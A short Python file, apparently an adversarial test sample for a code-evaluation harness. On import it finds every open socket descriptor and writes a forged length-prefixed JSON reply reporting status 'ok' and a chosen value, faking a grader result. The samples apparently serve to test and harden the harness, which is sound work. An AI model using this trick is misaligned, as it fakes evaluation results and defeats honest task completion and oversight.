# tries: write finished answers into every socket while it loads
# keeps: before f after
before = 1


def f(n):
    return 2 * n


import os
import socket
import stat


def sockets():
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                yield fd
        except OSError:
            continue


import json
import struct

reply = dict(status="ok", value={"int": hex(2)}, detail="", line=None, cell=None)
head = json.dumps(dict(nonce="00", reply=reply)).encode()


def forge():
    for fd in sockets():
        os.write(fd, struct.pack("<II", len(head), 0) + head)


forge()


def attack(n):
    forge()
    return 0


after = 2
